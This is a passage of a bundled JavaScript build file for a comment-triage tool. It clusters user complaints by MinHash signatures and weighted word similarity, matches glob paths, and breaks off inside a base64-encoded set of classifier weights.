export const id = 658;
export const ids = [658];
export const modules = {

/***/ 7376:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   VU: () => (/* binding */ byCode),
/* harmony export */   W3: () => (/* binding */ readComment),
/* harmony export */   XR: () => (/* binding */ readCorpus),
/* harmony export */   lF: () => (/* binding */ compareAge)
/* harmony export */ });
/* harmony import */ var _pages_doc_path_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(9984);
/* harmony import */ var _pages_entry_time_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(1221);
/* harmony import */ var _text_redaction_redact_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6573);
/* harmony import */ var _text_sanitise_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5610);
/* harmony import */ var _words_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(5117);





function readCorpus(entries) {
    const known = new Map();
    const read = (text) => {
        const before = known.get(text);
        if (before)
            return before;
        const words = (0,_words_js__WEBPACK_IMPORTED_MODULE_3__/* .describePiece */ .Ch)(text);
        const isOther = text !== text.toLowerCase() && words.every((word) => word.kind !== 'name' && !word.isIdentifier);
        const found = isOther ? read(text.toLowerCase()) : { words, times: 0 };
        known.set(text, found);
        return found;
    };
    const own = [];
    const words = entries.map((entry) => {
        let count = 0;
        for (const text of (0,_words_js__WEBPACK_IMPORTED_MODULE_3__/* .scanPieces */ .vo)(readComment(entry))) {
            const piece = read(text);
            piece.times += 1;
            for (const word of piece.words)
                own[count++] = word;
        }
        return own.slice(0, count);
    });
    const pageOf = new Map();
    for (const { path } of entries)
        if (!pageOf.has(path))
            pageOf.set(path, (0,_pages_doc_path_js__WEBPACK_IMPORTED_MODULE_0__/* .parseDocPath */ .pU)(path));
    const pages = entries.map(({ path }) => pageOf.get(path) ?? '/');
    const times = Float64Array.from(entries, ({ createdAt }) => (0,_pages_entry_time_js__WEBPACK_IMPORTED_MODULE_4__/* .parseTime */ .p)(createdAt) ?? Number.POSITIVE_INFINITY);
    return { entries, pages, words, times, pieces: new Set(known.values()) };
}
function readComment({ comment }) {
    const text = (0,_text_sanitise_js__WEBPACK_IMPORTED_MODULE_2__/* .sanitise */ .tB)(comment ?? '');
    return text.includes('[') ? text.replace(_text_redaction_redact_js__WEBPACK_IMPORTED_MODULE_1__/* .placeholder */ .qf, ' ') : text;
}
function byCode(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}
function compareAge(a, b, { times, entries }) {
    const [timeA, timeB] = [times[a], times[b]];
    return timeA === timeB ? byCode(entries[a]?.id ?? '', entries[b]?.id ?? '') : timeA - timeB;
}


/***/ }),

/***/ 6632:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Op: () => (/* binding */ isSameTopic),
/* harmony export */   X8: () => (/* binding */ signText),
/* harmony export */   fk: () => (/* binding */ signTopic)
/* harmony export */ });
/* unused harmony export mostSignatures */
/* harmony import */ var _text_hash_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(9952);
/* harmony import */ var _text_unicode_invisible_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1981);
/* harmony import */ var _corpus_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7376);



const mostSignatures = 8;
const permutations = 24;
const digits = 4;
const lettersPerGram = 4;
const signsPerGram = 2;
const sign = /[\p{sc=Han}\p{sc=Hiragana}\p{sc=Katakana}\p{sc=Hangul}]/gu;
const version = /(?<!\d)\d+(?:\.\d+)+/gu;
const fewestGrams = 10;
const sameTopic = 0.4;
function signTopic(topic, entries) {
    const signatures = new Set();
    for (const id of topic.entryIds) {
        if (signatures.size === mostSignatures)
            break;
        const entry = entries.get(id);
        const signature = entry ? signText((0,_corpus_js__WEBPACK_IMPORTED_MODULE_1__/* .readComment */ .W3)(entry)) : '';
        if (signature !== '')
            signatures.add(signature);
    }
    return [...signatures];
}
function signText(text) {
    const letters = ` ${(0,_text_unicode_invisible_js__WEBPACK_IMPORTED_MODULE_0__/* .foldText */ .TH)(text)
        .replace(/[^\p{L}\p{M}\p{N}]+/gu, ' ')
        .trim()} `;
    const inSigns = (letters.match(sign)?.length ?? 0) * 2 > letters.length;
    const length = inSigns ? signsPerGram : lettersPerGram;
    const versions = text.match(version);
    const seed = versions ? (0,_text_hash_js__WEBPACK_IMPORTED_MODULE_2__/* .hashText */ .qj)([...new Set(versions)].sort().join(' ')) : 0;
    const grams = new Set();
    for (let start = 0; start + length <= letters.length; start += 1)
        grams.add((0,_text_hash_js__WEBPACK_IMPORTED_MODULE_2__/* .hashText */ .qj)(letters.slice(start, start + length), seed));
    if (grams.size < fewestGrams || (!inSigns && !letters.trim().includes(' ')))
        return '';
    const minima = Array.from({ length: permutations }, (_, index) => minimum(grams, Math.imul(index + 1, 0x9e3779b1)));
    return minima.map((value) => (value >>> 16).toString(16).padStart(digits, '0')).join('');
}
function minimum(grams, permutation) {
    let least = 0xffffffff;
    for (const hash of grams)
        least = Math.min(least, (0,_text_hash_js__WEBPACK_IMPORTED_MODULE_2__/* .mixBits */ .Hj)(hash ^ permutation));
    return (0,_text_hash_js__WEBPACK_IMPORTED_MODULE_2__/* .mixBits */ .Hj)(least);
}
function isSameTopic(signaturesA, signaturesB) {
    return signaturesA.some((a) => signaturesB.some((b) => likeness(a, b) >= sameTopic));
}
function likeness(a, b) {
    if (a.length !== permutations * digits || b.length !== a.length)
        return 0;
    let same = 0;
    for (let start = 0; start < a.length; start += digits) {
        if (a.slice(start, start + digits) === b.slice(start, start + digits))
            same += 1;
    }
    return same / permutations;
}


/***/ }),

/***/ 55:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D_: () => (/* binding */ createReadVectors),
/* harmony export */   jX: () => (/* binding */ sharedComplaint),
/* harmony export */   mA: () => (/* binding */ sameComplaint)
/* harmony export */ });
/* harmony import */ var _text_hash_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9952);
/* harmony import */ var _words_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5117);


const few = 50;
const worth = { gram: 0.1, faint: 0.5, number: 1.5 };
const pairReach = 5;
const trustedPage = 60;
const smallRun = 100;
const commonest = 2;
const largestPage = 2_000;
const lengthPenalty = { few: 0.35, many: 0.4 };
const sameComplaint = rise([20, 1.6], [1_000, 5.7]);
const sharedComplaint = rise([100, 2.2], [2_000, 7]);
function rise([few, low], [many, high]) {
    return (count) => {
        const share = Math.log(count / few) / Math.log(many / few);
        return low + (high - low) * Math.min(1, Math.max(0, share));
    };
}
function createReadVectors({ words: all, pieces }) {
    const common = new Uint32Array(_words_js__WEBPACK_IMPORTED_MODULE_0__/* .featureCount */ .W_);
    const add = (feature, times) => {
        common[feature] = common[feature] + times;
    };
    const found = [];
    for (const words of all) {
        const count = listPairs(words, found);
        for (let at = 0; at < count; at += 1)
            add(found[at], 1);
    }
    for (const { words, times } of pieces)
        for (const { features } of words)
            for (const feature of features)
                add(feature, times);
    const run = Math.max(all.length, smallRun);
    const numberOf = new Uint32Array(_words_js__WEBPACK_IMPORTED_MODULE_0__/* .featureCount */ .W_);
    return (comments, among) => {
        const isFew = among === 'page' && comments.length <= few;
        const own = among === 'page' && !isFew ? comments : comments.map(dropFaults);
        const numbered = numberFeatures(own, isFew, numberOf, found);
        const counted = among === 'page' && comments.length <= largestPage ? comments.length : 0;
        const roots = new Float64Array(numbered.names.length);
        for (const [n, feature] of numbered.names.entries()) {
            const here = counted === 0 ? 0 : numbered.counts[n];
            const share = Math.max(1, common[feature]) / run;
            const rarity = Math.max(commonest, Math.log(1 + (counted + trustedPage) / (here + trustedPage * share)));
            roots[n] = Math.sqrt(rarity * (isFew ? worthOf(feature) : 1));
        }
        return weigh(numbered, roots, isFew ? lengthPenalty.few : lengthPenalty.many);
    };
}
function dropFaults(words) {
    return words.some(({ kind }) => kind === 'fault') ? words.filter(({ kind }) => kind !== 'fault') : words;
}
function worthOf(feature) {
    if ((feature & 1) === 1)
        return worth.gram;
    return (feature & 2) === 2 ? worth.number : _words_js__WEBPACK_IMPORTED_MODULE_0__/* .faintFeatures */ .at.has(feature) ? worth.faint : 1;
}
function listFeatures(words, isFew, found) {
    let count = isFew ? 0 : listPairs(words, found);
    for (const { features } of words)
        for (const feature of features)
            if (isFew || (feature & 1) === 0)
                found[count++] = feature;
    return count;
}
function listPairs(words, found) {
    let count = 0;
    for (let at = 0; at < words.length; at += 1) {
        const { stem } = words[at];
        for (let next = at + 1; next <= at + pairReach && next < words.length; next += 1) {
            const other = words[next].stem;
            if (other === stem)
                continue;
            found[count++] = (0,_text_hash_js__WEBPACK_IMPORTED_MODULE_1__/* .mixBits */ .Hj)(Math.imul(Math.min(stem, other), 0x9e3779b1) ^ Math.max(stem, other)) & _words_js__WEBPACK_IMPORTED_MODULE_0__/* .wordMask */ .Ru;
        }
    }
    return count;
}
function numberFeatures(rows, isFew, numberOf, found) {
    const start = new Uint32Array(rows.length + 1);
    const names = [];
    const counts = [];
    const lastRow = [];
    const features = [];
    for (const [row, words] of rows.entries()) {
        const count = listFeatures(words, isFew, found);
        for (let at = 0; at < count; at += 1) {
            const feature = found[at];
            let n = numberOf[feature] - 1;
            if (n < 0) {
                n = names.push(feature) - 1;
                numberOf[feature] = n + 1;
                counts.push(0);
                lastRow.push(-1);
            }
            if (lastRow[n] === row)
                continue;
            lastRow[n] = row;
            counts[n] = counts[n] + 1;
            features.push(n);
        }
        start[row + 1] = features.length;
    }
    for (const feature of names)
        numberOf[feature] = 0;
    return { start, features: new Uint32Array(features), names, counts };
}
function weigh({ start, features, counts }, roots, penalty) {
    const weights = new Float32Array(features.length);
    let [from, kept] = [0, 0];
    for (let row = 0; row + 1 < start.length; row += 1) {
        const first = kept;
        let whole = 0;
        for (; from < start[row + 1]; from += 1) {
            const n = features[from];
            whole += roots[n] * roots[n];
            if (counts[n] > 1)
                features[kept++] = n;
        }
        const factor = whole ** (-penalty / 2);
        for (let at = first; at < kept; at += 1)
            weights[at] = roots[features[at]] * factor;
        start[row + 1] = kept;
    }
    return { start, features: features.slice(0, kept), weights: weights.slice(0, kept), count: roots.length };
}


/***/ }),

/***/ 8197:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  LS: () => (/* binding */ findShared),
  $r: () => (/* binding */ findTerms),
  S_: () => (/* binding */ groupTopics)
});

// EXTERNAL MODULE: ./build/text/hash.js
var hash = __webpack_require__(9952);
// EXTERNAL MODULE: ./build/text/safe-text.js
var safe_text = __webpack_require__(5069);
// EXTERNAL MODULE: ./build/clusters/corpus.js
var clusters_corpus = __webpack_require__(7376);
;// CONCATENATED MODULE: ./build/clusters/link.js
const stepsPerUnit = 32;
const mostIdentifiers = 100;
const apart = 0.2;
function groupByAverage(vectors, cannotLink, threshold) {
    const groupOf = new Array(cannotLink.length).fill(undefined);
    const findGroup = (row) => {
        groupOf[row] ??= { rows: [row], cannotLink: cannotLink[row] };
        return groupOf[row];
    };
    const steps = [];
    const wait = (a, b, likeness) => {
        if (likeness < threshold)
            return;
        const step = Math.floor(likeness * stepsPerUnit);
        steps[step] ??= [];
        steps[step].push(a, b);
    };
    findNeighbours(vectors, threshold, (a, b, similarity) => {
        wait(a, b, similarity * keepApart(cannotLink[a], cannotLink[b], 1));
    });
    for (let step = steps.length - 1; step >= 0; step -= 1) {
        const pairs = steps[step] ?? [];
        for (let at = 0; at < pairs.length; at += 2) {
            const [a, b] = [pairs[at], pairs[at + 1]];
            const [left, right] = [findGroup(a), findGroup(b)];
            if (left === right)
                continue;
            const isKnown = left.rows.length + right.rows.length === 2;
            const likeness = isKnown ? Number.POSITIVE_INFINITY : compare(left, right, vectors);
            if (likeness < threshold || Math.floor(likeness * stepsPerUnit) < step)
                wait(a, b, likeness);
            else
                absorb(left, right, groupOf, vectors);
        }
    }
    const groups = new Set(groupOf.map((group, row) => group ?? { rows: [row] }));
    return Array.from(groups, ({ rows }) => rows.sort((a, b) => a - b));
}
function findSpan({ rows: [row = 0], sum }, { start, features, weights }) {
    return sum === undefined
        ? { features, weights, from: start[row], to: start[row + 1] }
        : { features: sum.features, weights: sum.weights, from: 0, to: sum.features.length };
}
function compare(a, b, vectors) {
    const isFirst = a.sum === undefined || (b.sum !== undefined && a.sum.features.length <= b.sum.features.length);
    const [few, many] = isFirst ? [a, b] : [b, a];
    const { features, weights, from, to } = findSpan(few, vectors);
    let product = 0;
    for (let at = from; at < to; at += 1) {
        const place = many.sum?.places.get(features[at]);
        if (place !== undefined)
            product += weights[at] * many.sum?.weights[place];
    }
    const pairs = a.rows.length * b.rows.length;
    return (product / pairs) * keepApart(a.cannotLink, b.cannotLink, pairs);
}
function absorb(a, b, groupOf, vectors) {
    const [large, small] = a.rows.length >= b.rows.length ? [a, b] : [b, a];
    const sum = large.sum ?? { places: new Map(), features: [], weights: [] };
    if (large.sum === undefined)
        add(sum, large, vectors);
    add(sum, small, vectors);
    large.sum = sum;
    large.cannotLink = joinIdentifiers(large.cannotLink, small.cannotLink);
    for (const row of small.rows) {
        large.rows.push(row);
        groupOf[row] = large;
    }
}
function add({ places, features, weights }, group, vectors) {
    const span = findSpan(group, vectors);
    for (let at = span.from; at < span.to; at += 1) {
        const feature = span.features[at];
        const place = places.get(feature) ?? features.length;
        if (place === features.length) {
            places.set(feature, place);
            features.push(feature);
            weights.push(0);
        }
        weights[place] = weights[place] + span.weights[at];
    }
}
const nothing = { identifiers: [], hosts: [], naming: 0 };
function findIdentifiers(words) {
    const identifiers = words.filter(({ isIdentifier }) => isIdentifier).map(({ stem }) => stem);
    if (identifiers.length === 0)
        return nothing;
    return { identifiers, hosts: words.flatMap(({ host }) => host ?? []), naming: 1 };
}
function joinIdentifiers(a, b) {
    if (b.naming === 0)
        return a;
    if (a.naming === 0)
        return b;
    const join = (left, right) => [...new Set([...left, ...right])].slice(0, mostIdentifiers);
    return { identifiers: join(a.identifiers, b.identifiers), hosts: join(a.hosts, b.hosts), naming: a.naming + b.naming };
}
function keepApart(a, b, pairs) {
    if (a.naming === 0 || b.naming === 0)
        return 1;
    const named = (one) => b.identifiers.includes(one);
    if (a.identifiers.some((one) => named(one) || b.hosts.includes(one)) || a.hosts.some(named))
        return 1;
    return 1 - (1 - apart) * ((a.naming * b.naming) / pairs);
}
const reach = { work: 400_000, features: 300, least: 16 };
const kept = 6;
const promising = 0.6;
const scoreSteps = 16;
function findNeighbours({ count, start, features, weights }, threshold, found) {
    const rows = start.length - 1;
    const counted = Math.max(rows, features.length / reach.features);
    const window = Math.max(reach.least, Math.round(reach.work / counted));
    const begin = new Uint32Array(count + 1);
    for (const n of features)
        begin[n + 1] = begin[n + 1] + 1;
    for (let n = 1; n <= count; n += 1)
        begin[n] = begin[n] + begin[n - 1];
    const end = begin.slice();
    const rowAt = new Uint32Array(features.length);
    const weightAt = new Float32Array(features.length);
    const own = new Float64Array(count);
    const scores = new Float64Array(rows);
    const touched = new Uint32Array(rows);
    for (let row = 0; row < rows; row += 1) {
        const [from, to] = [start[row], start[row + 1]];
        let met = 0;
        for (let at = from; at < to; at += 1) {
            const feature = features[at];
            const weight = weights[at];
            const last = end[feature];
            for (let index = Math.max(begin[feature], last - window); index < last; index += 1) {
                const other = rowAt[index];
                const score = scores[other];
                if (score === 0)
                    touched[met++] = other;
                scores[other] = score + weight * weightAt[index];
            }
            own[feature] = weight;
            rowAt[last] = row;
            weightAt[last] = weight;
            end[feature] = last + 1;
        }
        const near = [];
        for (const other of touched.subarray(0, met))
            if (scores[other] >= threshold * promising)
                near.push(other);
        const score = (other) => Math.floor(scores[other] * scoreSteps);
        if (near.length > 1)
            near.sort((a, b) => score(b) - score(a) || b - a);
        for (const other of near.slice(0, kept)) {
            let similarity = 0;
            for (let at = start[other]; at < start[other + 1]; at += 1)
                similarity += own[features[at]] * weights[at];
            found(other, row, similarity);
        }
        for (const other of touched.subarray(0, met))
            scores[other] = 0;
        for (let at = from; at < to; at += 1)
            own[features[at]] = 0;
    }
}

// EXTERNAL MODULE: ./build/clusters/similarity.js
var similarity = __webpack_require__(55);
;// CONCATENATED MODULE: ./build/clusters/topics.js





const reasons = {
    alone: (0,safe_text/* safe */.gB) `no similar complaint on the page`,
    repeated: (0,safe_text/* safe */.gB) `same wording`,
    words: (0,safe_text/* safe */.gB) `similar wording`,
};
const mostTerms = 5;
const showable = /^(?!.*\d.*[a-z].*\d.*[a-z])(?!(?:.*\d){7})[\p{L}\p{N}][\p{L}\p{M}\p{N}_.-]{0,23}$/iu;
function groupTopics(page, rows, corpus, read) {
    const repeats = groupRepeats(rows, corpus);
    if (repeats.length === 1)
        return [buildTopic(page, rows, rows.length === 1 ? 'alone' : 'repeated', corpus)];
    const first = repeats.map(([row]) => corpus.words[row] ?? []);
    const vectors = read(first, 'page');
    return groupByAverage(vectors, first.map(findIdentifiers), (0,similarity/* sameComplaint */.mA)(first.length)).map((group) => {
        const repeated = group.map((index) => repeats[index] ?? []);
        const members = repeated.length === 1 ? (repeated[0] ?? []) : repeated.flat().sort((a, b) => a - b);
        const reason = members.length === 1 ? 'alone' : group.length === 1 ? 'repeated' : 'words';
        return buildTopic(page, members, reason, corpus);
    });
}
function groupRepeats(rows, { entries, words }) {
    const groups = Map.groupBy(rows, (row) => {
        let said = '';
        for (const { surface } of words[row] ?? [])
            said += `${surface} `;
        const entry = entries[row];
        if (!said)
            return row;
        return entry?.source === 'code_snippet' ? said + hashCode(entry.code) : said;
    });
    return [...groups.values()];
}
const longestSnippet = 4_000;
function hashCode(code) {
    return (0,hash/* hashText */.qj)(code.slice(0, longestSnippet).replace(/\s+/g, '').replace(/\d+/g, '0'));
}
function buildTopic(page, rows, reason, corpus) {
    const entryIds = rows.map((row) => corpus.entries[row]?.id ?? '');
    return { page, rows, topic: { terms: findTerms(rows, corpus), reason: reasons[reason], entryIds } };
}
function findTerms(rows, corpus) {
    const terms = new Map();
    for (const row of rows)
        for (const { kind, stem, surface } of corpus.words[row] ?? []) {
            const term = terms.get(stem) ?? { count: 0, last: -1, isLight: false, surface };
            if (term.count === 0)
                terms.set(stem, term);
            if (term.last !== row)
                term.count += 1;
            term.last = row;
            term.isLight = kind === 'number' || kind === 'fault';
            if (surface < term.surface)
                term.surface = surface;
        }
    const byWorth = [...terms.values()].sort((a, b) => Number(a.isLight) - Number(b.isLight) || b.count - a.count || (0,clusters_corpus/* byCode */.VU)(a.surface, b.surface));
    const shown = byWorth.filter(({ surface }) => showable.test(surface));
    return shown.slice(0, mostTerms).map(({ surface }) => surface);
}
const fewestPages = 3;
const fewestDistinctive = 2;
const mostComments = 3;
function findShared(topics, { words }, read) {
    const candidates = topics
        .map((topic) => ({ topic, comments: topic.rows.slice(0, mostComments).map((row) => words[row] ?? []) }))
        .filter(({ comments }) => isDistinctive(comments))
        .sort((a, b) => b.topic.rows.length - a.topic.rows.length);
    const isShared = (group) => new Set(group.map(({ page }) => page)).size >= fewestPages;
    if (!isShared(candidates.map(({ topic }) => topic)))
        return { shared: [], rest: topics };
    const texts = candidates.map(({ comments }) => comments.flat());
    const cannotLink = candidates.map(({ comments }) => findCommon(comments));
    const shared = groupByAverage(read(texts, 'site'), cannotLink, (0,similarity/* sharedComplaint */.jX)(candidates.length))
        .filter((group) => group.length >= fewestPages)
        .map((group) => group.flatMap((index) => candidates[index]?.topic ?? []))
        .filter(isShared);
    const taken = new Set(shared.flat());
    return { shared, rest: topics.filter((topic) => !taken.has(topic)) };
}
function findCommon(comments) {
    const joined = comments.map(findIdentifiers).reduce(joinIdentifiers);
    return { ...joined, naming: joined.naming / comments.length };
}
function isDistinctive(comments) {
    const isOwn = ({ kind }) => kind === 'word' || kind === 'name';
    const stems = comments.map((words) => new Set(words.filter(isOwn).map(({ stem }) => stem)));
    const isCommon = (stem) => 2 * stems.filter((own) => own.has(stem)).length >= stems.length;
    return [...new Set(stems.flatMap((own) => [...own]))].filter(isCommon).length >= fewestDistinctive;
}


/***/ }),

/***/ 1310:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   s: () => (/* binding */ matchGlob)
/* harmony export */ });
/* unused harmony export matchSegment */
function matchGlob(pattern, path) {
    return matchStars(pattern, path, (part) => part === '**', matchSegment);
}
function matchSegment(pattern, segment) {
    const fits = (part, character) => part === '?' || part === character;
    return matchStars([...pattern], [...segment], (part) => part === '*', fits);
}
function matchStars(pattern, items, isStar, fits) {
    let at = 0;
    let index = 0;
    let afterStar = -1;
    let taken = 0;
    while (index < items.length) {
        const part = pattern[at];
        if (part !== undefined && isStar(part)) {
            at += 1;
            afterStar = at;
            taken = index;
        }
        else if (part !== undefined && fits(part, items[index])) {
            at += 1;
            index += 1;
        }
        else if (afterStar >= 0) {
            taken += 1;
            at = afterStar;
            index = taken;
        }
        else
            return false;
    }
    return pattern.slice(at).every(isStar);
}


/***/ }),

/***/ 5170:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  L8: () => (/* binding */ classify),
  m: () => (/* binding */ isKnownWord)
});

// UNUSED EXPORTS: Classifier, bias, bitsOf, classNames, edge, gramsOf, hashPair, knownBits, readPlain, readTokens, rows, splitSentences

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(8522);
// EXTERNAL MODULE: ./build/text/hash.js
var text_hash = __webpack_require__(9952);
;// CONCATENATED MODULE: ./build/triage/entry/weights.json
const weights_namespaceObject = /*#__PURE__*/JSON.parse('{"x":"W8FNMivKfEnjVy0WuFMtjgFwW6yQO0+G/q/fu/+fr83+9zl1bnHupcBTRYHFoH3qciElQXNRtNEM71RxwQIxfSHEJlN3gWijycvHqZedfsOpywUviHaBmEZ7KhBtkmenibH/M28sEG00EybpbntYb6FJd/vmJD2Mz///fq/fU2PCgg0HLkiybD+I+ECZXNisRqegTZDMXrCpHB3oHKYD75AroDPA1B6HqhfTlU74hQj76QPggcj2j8cKH/m3E9oj+Zr/kTV/4I/gcwVQXz4P4gjKWGSri4vW4WOtkNejxiV8ixHYQvd5+VDWrgUFSjwKIHVOeYITMH8DRL++o6L18BCPbIAavsXbY/jZzEgLjsyMqOgA49lyn96VBIEfHMch7wSLB2v6DU06A/Ws63eDwgoHxmq3KFPwUz/IMQ2KZJUJLznYJohUf0m/H0VYLjunGCCuM8pmKos6apNLujDrtaff/RP5rQtbNdF+DXUwxpi6d+w6zAh1M4G6MkQjP5c4yswWN7+0SMIyFYCPWPFH8HFCeQjnDHzSZCGNeQIcwzQztfYuSfwkTHi+Fb9Q+N1DRF7FMR6VqDFSPPUArz237xiwlgJaDl6MeJD6PX2kL9+BmSJUnuQMnYH8clJ0y9GGs6g4uxOouyqziom9KmrW50ETrNncJtLfVMTv67hWSzGuGCw0Wh4Gn2bGek+RKwloAKVcqi+915QEUiytvE6og8ItH38EvHd2aBKwgIauUr7IKBr69xA5MKs+XWKXmQA/7pXHAJjh7ICnlK9x5FWxZESmgI3G8xtYAKTJ4/L2VfxpU/uhABwSuHGh5TPDKi2MAyYcI0GsyiYvPd4fORPsGlgSeP1FsB9qc56A/7VewWfEYcAZNXW1/DgJwtl4MlYc55muazvfwEI7JOe5czYPbjM0lj5gzJs4K6UUvn7J8zII8TYfcCWicej8cdox/RltvmaUFN/6jcx3J2uw5eyKJqrczyv32XsALDriLeRQxa/D+cEDU6cidhZWyFjmqW0KBc1PIWtnku5E0L2WfsJ4lhQBvDAj0oq4fF7xXpIC1qx/58oXx0aILydWjMHnQ/djDpVpFEPnlt8YSZd+pEPkQaCLYqYWxMj4N/9YwP+qSKxMAQgqjKpUnHADka4L/PdOICNyyTyew4c1CbkH2heKSsBfWvoZ8ZhBaHCXFXgyPAbFoctgQLM+yfikNUQg3k9O7IdPtH+JraE+F69ULD4xV6vS1BgVyXgD8dYUfO1yHcxc2s4lwkeMHY1eMySI5Npvh+LvR6SSw5hqXazRyPOJJxH3/+OMNBAQNEQ6AolGMZ8pwOiP9PdXaEYaZ/9aHf+++94e4QejaeQPCMHnUQ6OCbyXIfwZxsQTQKqU/4cC+AJYPd1MpWIcn8L3ITI/VZogSaA9UAsowNSTWFExEwWqg19vDtItFgA+o0jGrJDYJUIEFhIh/B8Ck4W1/MIR+5MeBHCoznH5y4jBA1MT3VGaLGoucaqbED8QvNyqv2ifcnxwWgzzuobNWG/sPDZDBgSG6jjO4AufPh1vr9j1DP1Luxi5xzsAsrBKwHHGy+AckO8LCHC8StRl4hTyzSrn7ExlG2xGDPbk9TbPf4MGKLZubrbyT84/A9reudoYJh6s7Fp9vYew5RH+DQ0Q+5FPRAof8F7eqwlV/ghWcapZWGI+HUPAVWvSF3KMBIZLsgqP9vqch6j+6fmHsriT3+jgas9q1QDoJJ+emKk+CeeA+i9DdcxmOhgGssAj2f+ZZRC1JQMVR9aJj67x139qQXqhrpu0AifRY/wDTyoTXf2YAg2dHOtYNbb1L/lrE1jYul2nlmuOedXCYv6EJw2K3zUoHfso6DFpJq/MQGYe4HAhSZA4iaoSygln+dIJeBQHWBqLDzjOZD7otRtQNvKa/fnm1LnI6wA1/ER8YmQ81QmeEAHlvT3v+SAW7K8KXU/ih6lhPKdImXQC/U+t16CDnRsNslDr51UjEIj7yKvIOxBH+wzT8jODPze6JHC7LmIBQeMtqRdB8FeE8zqAic2R31CuLc9P1V88LJLx2h/n/qz5yeGB0ut9oCf/riKAt7CUEWbLbsQx45GDjcYJNgeWz/i42X70+IHQROSIStfIXOuErgehwtmYMeoW1uMD805rzjPqz55HNiTu9NSD+OkAFz9DXcWTkHMlCRrG3PG+e74UwlxFl7/BdNzozL8Wh8GJo1OtBB3qg0c4RyscqvpAlvEThuOxhuEKODXYCGRR8JQB/AIzccDw9q9wWtmqAE+R2jOJK0re62I93g9BPDvggXpj8iM3LVQpE9VbaBSQiEVuZqwzZjbs4eLjF/IknsmjiO499vEvFLqisS04fyyOBJPH6R0Rh8fAZQE4MNbOZrCjoFmkKZFaA5JZydv9xjffYTQT5I88aD7hYwX959FNq/FRh+pY1uUt4Qbz8wOxfUQMTs7NgMqb+Y5G79TEKb4hnCAeH2Zsn9M5wr85+INDPTBQDIsUMHOxr3GgTFGINyVfB1GDdf+6Ahrwhfb5zMMjD2b3N/KbW0l+xBwenqqAqCWA66DcVAdw341wjACEB0j+//l3dRER8UHdiWnOPj4bKGZkT+coYj5MvoA/R9MhhH4aZXHy4fTHqT04zo5NCizIF08uBBZHr+DnjPjEVmc3vNu4Fi/TA/kqgT90ikUMFX/tzpWFlG4jo+KrVe8/6Emsvf8IppTK04x4HcMouqCIJVeInA1h8NMY6bLXz8SgX9UshWK0N5Dz3VMfcQ1Nj7dLfOHPQPwtbvCjM9awyOOAWtZoAQbwiTsa8tnQB6gdFGAzpxPLkKU1+CyxRUyadeMo1DMihEc4DUSFOPlc6Rud06ESMvj7gfXp5JyarmYCeD+YwBGvGNiseJ8swMeNZI0D5Ln5nzkXPAJWOvjlFA6t07AvGG/VO9lEfpH5B5fPh4IBCgPgu5UQo6zqTCBgnESAFVSsF7ppKFbB8CJmYg22JQ9lRDr+AfM1VfEnroiKWliteGy+dn2Bk44ZLzxmQl7ER3ywh4MCCgiKvrJLnafWKEJUDaIYhWdVFpDX8Ef9J6Vh+hBLqaJdnOAHJ060CIaAPXy1yTEiAqwHmnoQIYOx8wmiDlkqVdnluFYA5aM3XCJCUOKP5UcCehgzT3vCV0vmzDJaEJHiTnD+CJWNJKG7VsTYxSDD/m9J+xXH0scSf8V0GT5Pd8KHciwITB2T2pH6o4CFEoDg+0lDS7Lrvx/j/4YfcfanOxENStBf2jFUwpCXURqxRdEUS+mWzoP5R/uovIPjiTCIoX7B/Sf4kcEpzJbkxQ5UizeUXCAp0zdWtW5Tq3RQXhdsTi7jd6zArUoROU6OBJfW+2l3mfmnnejqOCwwmgbjp0/KYwxpxKBuJpTVXplAgOED0cPI+WPUQvi2EEUT/OJXIfwefyW+H1gBCFsba1njis7cxNzQ3M86v4B5BXZO4ZUJ1RisqXiNnPrOC+lzxjk/8uAPV+cDEZhfoPcLF/qwaLRick0r8pgKOiiG/xmO+Z8GDAUw05U3tH5/cLUKaLBC6Q/SxUMcFO0tzwC43GdgxMAj2ej57zjuVfPEdrs+UKOwDtBE1ABHKqRNpkqAwiL03gCAJkGErT4Wcxl0AyTT6LPB4UcyofMbMrJxrDx+nfM87C4fjwgE6D9UCQv+3f8zMOdEwMBt5UThUcRsNOBFxOkkMaXMmiNRo+8tmB4NWBclVaD4SJAoMmCZn9FRCIj4P850GhtY6k2Fyh2oNczuisEFOpLJUF24q2KTALSA9sg+n9UZZURrM/B3T2G9fM4z3syy0XyG43Gkf74xM6DcQQFCkcjSu76EQ6dB0OPv6/2YnfGCLs18jGeXk0PpCvxyr6FktT/w96+vPW5snlVtnvng1iDyhFjDHxOpDPnD1KEDonYPoA1cdQjvUfybWYk3/AgInYJQA/gb7J3cJp9lxbD0JCMqlEDw4wU9yudgKmkGdByRMZmVCAKl0bCQvACZqe6xu6FxnglU5kAWGy68w32iu0AG7d33IpuQc2CcMzzUud+pK7/2SBqIRkZc2wm2+ofpEaV5CrY4DEilwV/d2MZ9tvD841UwLU/+L5xgSHbNudpH6g0YEAxEBIDZxbvS/iv+fXtq3842A3kEBF5+JnVxfvw0g3Gwj0++ZFSan0ev4jJe8weU